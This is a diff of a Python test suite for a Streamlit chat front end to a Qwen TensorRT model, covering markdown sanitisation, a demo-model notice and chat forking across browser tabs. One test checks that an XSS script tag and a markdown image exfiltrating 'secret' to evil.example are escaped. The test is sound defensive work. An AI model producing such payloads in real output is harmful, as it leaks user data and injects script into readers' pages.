@@ -18,6 +18,7 @@ from qwen_trt.errors import EngineMismatchError
 from qwen_trt.params import SamplingParams
 from qwen_trt.serving.service import InferenceService
 from qwen_trt.ui.state import PendingReply
+from qwen_trt.ui.text import sanitize_markdown
 
 APP = str(Path(__file__).resolve().parents[1] / "app.py")
 TIMEOUT = 30
@@ -113,7 +114,9 @@ def test_message_streams_a_reply_into_history_and_clear_empties_it(scripted):
     user, assistant = at.chat_message
     assert (user.name, assistant.name) == ("user", "assistant")
     assert user.markdown[0].value == "hi"
-    assert assistant.markdown[0].value == "Hello **there**, friend.\n\nSecond paragraph."
+    assert assistant.markdown[0].value == sanitize_markdown(
+        "Hello **there**, friend.\n\nSecond paragraph.")
+    assert "**there**" in assistant.markdown[0].value        # formatting kept
     footer = assistant.caption[0].value
     assert "first token" in footer and "tokens/s" in footer
 
@@ -145,9 +148,10 @@ def test_model_output_html_and_images_render_as_text(scripted):
     send(at, "say something nasty")
     assert history(at)[1][1] == PAYLOAD            # history keeps the raw model text
     shown = at.chat_message[1].markdown[0].value
-    assert "\\<script>alert('xss')\\</script>" in shown and "\\<b>bold\\</b>" in shown
-    assert "\\![leak](https://evil.example/collect?d=secret)" in shown
-    assert "](https" not in shown.replace("\\![leak](https", "")
+    assert shown == sanitize_markdown(PAYLOAD)
+    assert "\\<script\\>" in shown and "\\<b\\>bold\\<\\/b\\>" in shown
+    assert "\\!\\[leak\\]\\(https\\:\\/\\/evil" in shown      # the image as text
+    assert "](" not in shown                              # no link, no image
     assert all(not m.proto.allow_html for m in all_markdown(at))
     send(at, "again")                              # re-rendered from history: same treatment
     assert at.chat_message[1].markdown[0].value == shown
@@ -287,6 +291,13 @@ def test_tiny_model_end_to_end(monkeypatch, tiny_model_dir):
     assert (role_u, u, role_a) == ("user", "Hello, how are you today?", "assistant")
     assert a.strip()
     assert at.session_state["chat_state"].notes[0].footer.count("tokens") == 2
+    assert any("tiny random demo model" in i.value for i in at.info)   # said on the page
+
+
+def test_a_real_model_gets_no_demo_note(scripted):
+    scripted("hi")
+    at = run_app()
+    assert not any("demo model" in i.value for i in at.info)
 
 
 # -- stop, regenerate, edit, downloads, reload (issue 15) ---------------------------------------
@@ -515,3 +526,42 @@ def test_a_slow_load_shows_its_progress_then_the_chat(monkeypatch, tiny_tokenize
     assert history(at)[1] == ("assistant", "ready")
     at.run()
     assert len(at.status) == 0                       # loaded once: no status box any more
+
+
+def _url_chat(at: AppTest) -> str:
+    sid = at.query_params["chat"]
+    return sid[0] if isinstance(sid, list) else sid
+
+
+def test_one_chat_in_two_tabs_forks_at_the_later_save(scripted):
+    """Two tabs on one chat URL: the tab that saves on top of an older version gets a new chat
+    (its own turns), says so in one line, and the original lists it."""
+    from qwen_trt.ui.store import process_store
+
+    scripted("ok")
+    first = run_app()
+    send(first, "one")
+    sid = _url_chat(first)
+    second = AppTest.from_file(APP, default_timeout=TIMEOUT)     # the same URL in a new tab
+    second.query_params["chat"] = sid
+    second.run()
+    assert history(second) == [("user", "one"), ("assistant", "ok")]
+    send(first, "two")                          # the first tab saves a newer version
+    send(second, "three")                       # the second saved on top of an older one
+    fork = _url_chat(second)
+    assert fork != sid
+    assert history(second) == [("user", "one"), ("assistant", "ok"),
+                               ("user", "three"), ("assistant", "ok")]
+    notes = [i.value for i in second.info if "another tab" in i.value]
+    assert len(notes) == 1 and f"?chat={sid}" in notes[0]
+    saved = process_store().get(sid)             # the original kept the first tab's turns
+    assert [m["content"] for m in saved["messages"]] == ["one", "ok", "two", "ok"]
+    assert saved["forks"] == [fork]
+    assert [m["content"] for m in process_store().get(fork)["messages"]] == \
+        ["one", "ok", "three", "ok"]
+    first.run()                                  # the original links to the fork
+    assert any(f"?chat={fork}" in c.value for c in first.caption)
+    send(first, "four")                          # and both go on saving without more forks
+    send(second, "five")
+    assert _url_chat(first) == sid and _url_chat(second) == fork
+    assert process_store().forks(sid) == [fork]
